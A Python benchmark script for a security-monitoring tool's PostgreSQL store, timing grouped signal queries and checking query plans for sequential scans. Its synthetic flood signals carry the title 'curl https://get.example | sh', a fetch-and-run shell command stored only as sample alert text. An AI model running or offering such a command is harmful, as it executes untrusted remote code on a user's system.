"""Grouped repeats on PostgreSQL: how long each kind of group query takes, and its plans.

    .venv/bin/python tests/benchmarks/pg_groups.py [--signals 200000] [--runs 20]

A seed database of N realistic signals (generate.py) is copied into a throwaway PostgreSQL
server by `santamon migrate-db`'s importer (the triggers count the groups as rows arrive), then
a noisy rule is silenced on its busiest hosts and a flood of new silenced signals arrives, so
the default queue has to step over them. Each query is timed through the store (median and
p95 of --runs, one at a time), then run once more with auto_explain logging every plan of
every statement: a sequential scan of `signals` in any of them is reported.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import shutil
import statistics
import sys
import tempfile
import time
from collections.abc import Awaitable, Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import asyncpg

ROOT = Path(__file__).resolve().parents[2]
sys.path.insert(0, str(ROOT))

from santamon import timeutil  # noqa: E402
from santamon.store import Matchers, NewSignal, NewSilence, SignalFilter  # noqa: E402
from santamon.store.postgres import PostgresStore  # noqa: E402
from santamon.store.postgres.importer import migrate_sqlite  # noqa: E402
from tests import pg  # noqa: E402
from tests.benchmarks.generate import cached_database  # noqa: E402

NS = 1_000_000_000
FLOOD = 20_000  # silenced signals newer than everything else
PLAN_SETTINGS = {"session_preload_libraries": "auto_explain",
                 "auto_explain.log_min_duration": "0", "auto_explain.log_format": "text",
                 "log_min_messages": "log"}

Query = Callable[[PostgresStore], Awaitable[Any]]


async def walk_groups(store: PostgresStore, query: SignalFilter, pages: int) -> str | None:
    """The cursor `pages` pages into the groups of `query`."""
    cursor = None
    for _ in range(pages):
        cursor = (await store.signal_groups(replace(query, cursor=cursor))).next_cursor
    return cursor


async def queries(store: PostgresStore, conn: asyncpg.Connection) -> dict[str, Query]:
    busiest_host = await conn.fetchval("SELECT host_id FROM host_counts ORDER BY n DESC LIMIT 1")
    common_rule = await conn.fetchval("SELECT rule_id FROM rule_counts ORDER BY n DESC LIMIT 1")
    newest = await conn.fetchval("SELECT max(ts) FROM signals")
    day_ago = timeutil.format_utc(timeutil.parse_ns(newest) - 86400 * NS)
    week_ago = timeutil.format_utc(timeutil.parse_ns(newest) - 7 * 86400 * NS)
    everything = SignalFilter(status=None, silenced=None, limit=50)
    deep = await walk_groups(store, everything, 20)
    week = SignalFilter(status=None, since=week_ago, limit=50)
    week_page_2 = (await store.signal_groups(week)).next_cursor

    def groups(query: SignalFilter) -> Query:
        return lambda s: s.signal_groups(query)

    return {
        "groups, open (the default)": groups(SignalFilter(limit=50)),
        "groups, status=all": groups(SignalFilter(status=None, limit=50)),
        "groups, status=all silenced=all, page 21": groups(replace(everything, cursor=deep)),
        "groups, silenced=true": groups(SignalFilter(status=None, silenced=True, limit=50)),
        "groups, host_id (busiest)": groups(SignalFilter(status=None, host_id=busiest_host)),
        "groups, rule_id (most common)": groups(SignalFilter(status=None, rule_id=common_rule)),
        "groups, severity=critical": groups(SignalFilter(status=None,
                                                         severities=("critical",))),
        "groups, search (whole rules)": groups(SignalFilter(status=None, search="keys")),
        "groups, since 1 day": groups(SignalFilter(status=None, since=day_ago, limit=50)),
        "groups, since 7 days, page 2": groups(replace(week, cursor=week_page_2)),
        "signals, open (the default queue)": lambda s: s.list_signals(SignalFilter()),
        "silence preview, rule + host": lambda s: s.count_open_matching(
            Matchers(rule_id=common_rule, host_id=busiest_host)),
        "silence preview, title glob": lambda s: s.count_open_matching(
            Matchers(rule_id=common_rule, title="*a*")),
        "stats": lambda s: s.stats(),
    }


async def silence_a_flood(store: PostgresStore, conn: asyncpg.Connection) -> None:
    rule = await conn.fetchval("SELECT rule_id FROM rule_counts ORDER BY n DESC LIMIT 1")
    hosts = [row[0] for row in await conn.fetch(
        "SELECT host_id FROM host_counts ORDER BY n DESC LIMIT 5")]
    newest = timeutil.parse_ns(await conn.fetchval("SELECT max(ts) FROM signals"))
    for host in hosts:
        silence, _ = await store.create_silence(NewSilence(
            Matchers(rule_id=rule, host_id=host), "build noise", "bench",
            timeutil.format_utc(newest + 86400 * NS)), resolve_matching=False)
        for start in range(0, FLOOD // len(hosts), 1000):
            await store.insert_signals([NewSignal(
                f"flood-{host}-{n}", timeutil.format_utc(newest + (n + 1) * NS), host, rule,
                "high", "curl https://get.example | sh", b"[]", b"{}", None,
                silence_id=silence.id) for n in range(start, start + 1000)])


async def time_queries(url: str, plan: dict[str, Query], runs: int) -> dict[str, dict]:
    store = PostgresStore(url)
    await store.open()
    try:
        results = {}
        for name, query in plan.items():
            await query(store)  # warm the cache
            took = []
            for _ in range(runs):
                started = time.perf_counter()
                await query(store)
                took.append((time.perf_counter() - started) * 1000)
            took.sort()
            results[name] = {"median_ms": round(statistics.median(took), 2),
                             "p95_ms": round(took[max(0, int(len(took) * 0.95) - 1)], 2)}
        return results
    finally:
        await store.close()


async def explain_queries(server: pg.PostgresServer, url: str,
                          plan: dict[str, Query]) -> dict[str, list[str]]:
    """The plans of every statement each query ran, from auto_explain in the server's log."""
    database = url.rsplit("/", 1)[1]
    pg.run_sql(url, *(f"ALTER DATABASE {database} SET {name} = '{value}'"
                      for name, value in PLAN_SETTINGS.items()))
    store = PostgresStore(url)
    await store.open()
    plans = {}
    try:
        for name, query in plan.items():
            start = server.log.stat().st_size
            await query(store)
            await asyncio.sleep(0.2)  # the log is written by the server process
            logged = await asyncio.to_thread(_read_from, server.log, start)
            plans[name] = [chunk for chunk in logged.split("LOG:  duration:")[1:]
                           if "Query Text" in chunk]
    finally:
        await store.close()
    return plans


def _read_from(path: Path, offset: int) -> str:
    with open(path) as file:
        file.seek(offset)
        return file.read()


async def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--signals", type=int, default=200_000)
    parser.add_argument("--runs", type=int, default=20)
    parser.add_argument("--out", type=Path, default=ROOT / "bench-results" / "pg-groups.json")
    args = parser.parse_args()
    seed = cached_database(args.signals, ROOT / "bench-results")
    server = pg.PostgresServer().start()
    work = Path(tempfile.mkdtemp(prefix="santamon-pg-groups-"))
    try:
        url = server.new_database()
        source = work / "seed.db"
        shutil.copy(seed, source)
        started = time.monotonic()
        await migrate_sqlite(source, url)
        copied_s = time.monotonic() - started
        store = PostgresStore(url)
        await store.open()
        conn = await asyncpg.connect(url)
        try:
            started = time.monotonic()
            await silence_a_flood(store, conn)
            flood_s = time.monotonic() - started
            await conn.execute("VACUUM ANALYZE")
            plan = await queries(store, conn)
            counts = dict(await conn.fetchrow(
                "SELECT (SELECT count(*) FROM signals) AS signals, "
                "(SELECT count(*) FROM group_counts) AS buckets, "
                "(SELECT count(DISTINCT (rule_id, host_id)) FROM group_counts) AS groups"))
        finally:
            await conn.close()
            await store.close()
        timings = await time_queries(url, plan, args.runs)
        plans = await explain_queries(server, url, plan)
    finally:
        server.destroy()
        shutil.rmtree(work, ignore_errors=True)
    report = {"database": counts, "migrate_db_seconds": round(copied_s, 1),
              "flood_signals_per_second": round(FLOOD / flood_s), "queries": {}}
    print(f"{counts['signals']:,} signals, {counts['groups']:,} groups in "
          f"{counts['buckets']:,} buckets; migrate-db {copied_s:.0f} s")
    print(f"{'query':45} {'median ms':>10} {'p95 ms':>8}  seq scan of signals")
    for name, timing in timings.items():
        seq_scan = any("Seq Scan on signals" in chunk for chunk in plans[name])
        report["queries"][name] = {**timing, "seq_scan_of_signals": seq_scan,
                                   "plans": plans[name]}
        print(f"{name:45} {timing['median_ms']:>10} {timing['p95_ms']:>8}  "
              f"{'YES' if seq_scan else 'no'}")
    args.out.parent.mkdir(parents=True, exist_ok=True)
    args.out.write_text(json.dumps(report, indent=2))
    print(f"plans and figures: {args.out}")


if __name__ == "__main__":
    asyncio.run(main())
